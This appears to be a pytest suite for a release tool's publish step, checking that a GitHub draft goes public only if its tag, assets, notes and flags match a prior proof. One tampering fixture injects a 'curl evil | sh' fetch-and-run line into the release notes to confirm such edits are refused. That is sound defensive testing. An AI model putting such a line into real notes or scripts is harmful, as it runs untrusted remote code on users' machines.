"""publish: what was proven becomes public, on its own tag; no stored verdict is believed."""

from __future__ import annotations

import copy
import itertools
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from instance import COMMIT
from sampling import sample
from stage import WHEEL, Stage, proof_of, stage
from tagseal.errors import Busy, Refused, TagsealError, VerificationFailed
from tagseal.loopback.faults import Fault
from tagseal.records import Draft, Proof, Publication, Seal
from tagseal.services.github import GitHub
from tagseal.steps.draft import body
from tagseal.steps.publish import publish

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path
    from wsgiref.types import StartResponse, WSGIApplication, WSGIEnvironment

    from tagseal.loopback.github.state import PlayedRelease

    Records = tuple[Seal, Draft, Proof]

NAME = "octo/widget"


def proven(released: Stage) -> Records:
    released.accept_everything()
    seal = released.sign()
    draft = released.upload(seal)
    return seal, draft, proof_of(draft)


def published(released: Stage, records: Records, **plan: object) -> Publication:
    seal, draft, proof = records
    planned = replace(released.plan, **plan)  # type: ignore[arg-type]
    return publish(released.tag, planned, seal, draft, proof, services=released.services(run=None))


def refused(released: Stage, records: Records) -> TagsealError:
    """Return the error, having seen that the release was not flipped."""
    before = [(release.id, release.draft) for release in released.repository.releases]
    with pytest.raises(TagsealError) as caught:
        published(released, records)
    assert [(release.id, release.draft) for release in released.repository.releases] == before
    return caught.value


def flips(released: Stage) -> int:
    return sum(entry.method == "PATCH" for entry in released.loopback.transcript.entries)


def test_a_proven_draft_becomes_public(released: Stage) -> None:
    """One write, and the record says what was done, when and where."""
    seal, draft, proof = proven(released)
    publication = published(released, (seal, draft, proof))
    release = released.repository.by_id[draft.id]
    assert not release.draft
    assert release.published_at
    assert publication == Publication(
        id=draft.id,
        url=f"https://github.com/{NAME}/releases/tag/v1.2.3",
        published_at=release.published_at.replace(microsecond=0).isoformat(),
        acts=("release v1.2.3 published",),
    )
    assert released.repository.latest is release
    assert flips(released) == 1


def test_a_second_publish_converges(released: Stage) -> None:
    """A release that is public and whole already is success, and nothing is written."""
    records = proven(released)
    first = published(released, records)
    written = flips(released)
    assert published(released, records) == replace(first, acts=("release v1.2.3 was public already",))
    assert flips(released) == written


def test_publishing_that_lost_its_answer_is_resumed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The flip happened, its answer did not come: it is looked for, and done once."""
    lost = Fault(name="drop-after", host="api.github.com", method="PATCH")
    with stage(tmp_path, monkeypatch, faults=[lost]) as released:
        records = proven(released)
        assert published(released, records).acts == ("release v1.2.3 published",)
        assert flips(released) == 1


def renamed_tag(release: PlayedRelease) -> None:
    release.tag_name = "v9.9.9"


def without_wheel(release: PlayedRelease) -> None:
    release.assets = [asset for asset in release.assets if asset.name != WHEEL]


def with_extra(release: PlayedRelease) -> None:
    release.assets[0].name = "extra.bin"


def other_bytes(release: PlayedRelease) -> None:
    release.assets[0].sha256 = "e" * 64


def edited_notes(release: PlayedRelease) -> None:
    release.body = release.body.replace("gh release", "curl evil | sh # gh release", 1)


def uploaded_again(release: PlayedRelease) -> None:
    release.assets[0].id += 1000


def flagged(release: PlayedRelease) -> None:
    release.prerelease = True


@pytest.mark.parametrize(
    ("change", "slug"),
    [
        (renamed_tag, "release-altered"),
        (without_wheel, "release-altered"),
        (with_extra, "release-altered"),
        (other_bytes, "release-altered"),
        (edited_notes, "release-altered"),
        (uploaded_again, "changed-after-proof"),
        (flagged, "changed-after-proof"),
    ],
)
def test_a_draft_that_changed_after_the_proof_is_not_published(
    released: Stage, change: Callable[[PlayedRelease], None], slug: str
) -> None:
    """The draft is read again: tag, names, sizes, digests, asset ids, notes and flags are those that were proven."""
    records = proven(released)
    change(released.repository.by_id[records[1].id])
    error = refused(released, records)
    assert (type(error), error.slug) == (VerificationFailed, slug)
    assert "Somebody changed it meanwhile" in error.hint


@pytest.mark.parametrize("edit", [{"draft": 1}, {"assets": ()}, {"body_sha256": "e" * 64}])
def test_a_proof_of_something_else_publishes_nothing(released: Stage, edit: dict[str, object]) -> None:
    """A proof is of one draft, its assets and its notes."""
    seal, draft, proof = proven(released)
    error = refused(released, (seal, draft, replace(proof, **edit)))  # type: ignore[arg-type]
    assert error.slug == "changed-after-proof"


def test_notes_that_render_differently_now_are_not_published(released: Stage) -> None:
    """The page is rendered again: the record's digest and the remote body alone prove nothing."""
    seal, draft, proof = proven(released)
    release = released.repository.by_id[draft.id]
    release.body = "Trust us.\n\n<!-- tagseal: v1.2.3 -->"
    seen = released.services().github.release(NAME, draft.id)
    error = refused(released, (seal, draft, replace(proof, body_sha256=body.digest(seen.body))))
    assert "the notes: not as rendered" in error.context


@pytest.mark.parametrize("commit", ["e" * 40, None], ids=["moved", "deleted"])
def test_a_tag_that_moved_publishes_nothing(released: Stage, commit: str | None) -> None:
    """The remote tag is read again, immediately before."""
    records = proven(released)
    if commit:
        released.repository.add_tag("v1.2.3", commit)
    else:
        del released.repository.refs["refs/tags/v1.2.3"]
    error = refused(released, records)
    assert (type(error), error.slug) == (Refused, "tag-moved-meanwhile")
    assert error.what == f"got v1.2.3 on {commit or 'no commit'} at the remote, expected {COMMIT}"


def test_a_changed_work_folder_publishes_nothing(released: Stage) -> None:
    """Every bundle is verified again in this job."""
    records = proven(released)
    (released.work.packages / WHEEL).write_text("other bytes")
    assert refused(released, records).slug == "sealed-files-changed"


def test_a_deleted_draft_publishes_nothing(released: Stage) -> None:
    """No other draft takes its place."""
    seal, draft, proof = proven(released)
    del released.repository.by_id[draft.id]
    assert refused(released, (seal, draft, proof)).slug == "github-not-found"


def test_a_pre_release_is_published_as_one(released: Stage) -> None:
    """The flag stays, and it is not the latest."""
    released.version = "1.2.3rc1"
    draft = published(released, proven(released))
    assert released.repository.by_id[draft.id].prerelease
    assert released.repository.latest is None


def test_what_is_latest_is_told_when_it_is_published(released: Stage) -> None:
    """A higher version that became public after the plan stays the latest, whatever the record claims."""
    records = proven(released)
    released.repository.add_tag("v2.0.0", COMMIT)
    github = GitHub(released.services().environ["GITHUB_TOKEN"])
    higher = github.create_draft(NAME, "v2.0.0", body="", prerelease=False)
    github.publish(NAME, higher, latest=True)
    published(released, records, latest=True)
    assert released.repository.latest is released.repository.by_id[higher.id]


class Meddler:
    """Stands before the API, counts the requests, and lets something happen after one of them."""

    def __init__(self) -> None:
        self.behind: WSGIApplication | None = None
        self.begin()

    def begin(self, at: int = 0, change: Callable[[], None] = lambda: None) -> None:
        self.count, self.at, self.change = 0, at, change

    def __call__(self, environ: WSGIEnvironment, start_response: StartResponse) -> list[bytes]:
        assert self.behind is not None
        answer = list(self.behind(environ, start_response))
        self.count += 1
        if self.count == self.at:
            self.change()
        return answer


CHANGES = (renamed_tag, without_wheel, with_extra, other_bytes, edited_notes, uploaded_again, flagged)


@pytest.mark.sampled
def test_a_change_between_any_two_requests_is_not_published_or_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """After each request something happens to the draft: what is public in the end was proven, or the run says so."""
    meddler = Meddler()
    with stage(tmp_path, monkeypatch, hosts={"api.github.com": meddler}) as released:
        meddler.behind = released.loopback.github.hosts["api.github.com"]
        seal, draft, proof = proven(released)
        services = released.services(run=None)
        whole = copy.deepcopy(released.repository.by_id[draft.id])

        def attempt(at: int, change: Callable[[PlayedRelease], None]) -> tuple[int, PlayedRelease]:
            release = released.repository.by_id[draft.id] = copy.deepcopy(whole)
            meddler.begin(at, lambda: change(release))
            try:
                publish(released.tag, released.plan, seal, draft, proof, services=services)
            except TagsealError as error:
                return error.exit_code, release
            return 0, release

        assert [attempt(0, flagged)[0], attempt(0, flagged)[0]] == [0, 0]  # the first also asks for the repository
        last = meddler.count - 2  # the last two requests read the release, then its assets
        # Found before the flip; overwritten by it, which sends the notes and the flags again; found behind it.
        ends = [(1, without_wheel), (4, edited_notes), (last, other_bytes)]
        others = [case for case in itertools.product(range(1, last + 1), CHANGES) if case not in ends]
        told = []
        for at, change in (*ends, *sample(others, 9, lambda case: f"{case[0]} {case[1].__name__}")):
            code, release = attempt(at, change)
            proven_one = _content(release) == _content(whole) and not release.draft
            assert code == 1 or (code == 0 and proven_one), (at, change.__name__)
            told.append((code, release.draft))
    assert told[:3] == [(1, True), (0, False), (1, False)]


def _content(release: PlayedRelease) -> tuple[object, ...]:
    assets = tuple((asset.id, asset.name, asset.size, asset.sha256) for asset in release.assets)
    return release.tag_name, release.body, release.prerelease, assets


def test_a_tag_that_moves_while_it_is_published_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The remote tag is read once more, behind the flip."""
    meddler = Meddler()
    with stage(tmp_path, monkeypatch, hosts={"api.github.com": meddler}) as released:
        meddler.behind = released.loopback.github.hosts["api.github.com"]
        records = proven(released)
        patches = [entry.method for entry in released.loopback.transcript.entries].count("PATCH")

        def move() -> None:
            released.repository.add_tag("v1.2.3", "e" * 40)

        meddler.begin(7, move)
        with pytest.raises(Refused) as caught:
            published(released, records)
        assert (caught.value.slug, flips(released)) == ("tag-moved-meanwhile", patches + 1)


def test_one_release_is_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A draft that was made twice, and shows only when all is sent, is deleted behind the flip."""
    with stage(tmp_path, monkeypatch, faults=[Fault(name="draft-twice")]) as released:
        released.accept_everything()
        seal = released.sign()
        released.repository.stale = [()] * 3
        draft = released.upload(seal)
        assert [len(release.assets) for release in released.repository.releases] == [6, 0]
        published(released, (seal, draft, proof_of(draft)))
        assert [release.draft for release in released.repository.releases] == [False]


class Late:
    """Stands before the API, and answers from before the flip for so many requests behind it."""

    def __init__(self) -> None:
        self.behind: WSGIApplication | None = None
        self.release: PlayedRelease | None = None
        self.flipped = False
        self.left = 0

    def __call__(self, environ: WSGIEnvironment, start_response: StartResponse) -> list[bytes]:
        assert self.behind is not None
        late = self.release if self.flipped and environ["PATH_INFO"].endswith(f"/releases/{self.number}") else None
        if late and self.left:
            self.left -= 1
            late.draft = True
        answer = list(self.behind(environ, start_response))
        self.flipped = self.flipped or environ["REQUEST_METHOD"] == "PATCH"
        if late:
            late.draft = False
        return answer

    @property
    def number(self) -> int:
        return self.release.id if self.release else 0


@pytest.mark.parametrize("times", [1, 99])
def test_an_answer_from_before_the_flip_is_asked_for_again(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, times: int
) -> None:
    """Not every machine of GitHub's knows at once that it is public; whether one will is a matter of patience."""
    late = Late()
    with stage(tmp_path, monkeypatch, hosts={"api.github.com": late}) as released:
        late.behind = released.loopback.github.hosts["api.github.com"]
        records = proven(released)
        late.release, late.flipped, late.left = released.repository.by_id[records[1].id], False, times
        if times == 1:
            assert published(released, records).published_at
        else:
            with pytest.raises(Busy) as caught:
                published(released, records)
            assert caught.value.slug == "not-published"
        assert released.repository.by_id[records[1].id].draft is False
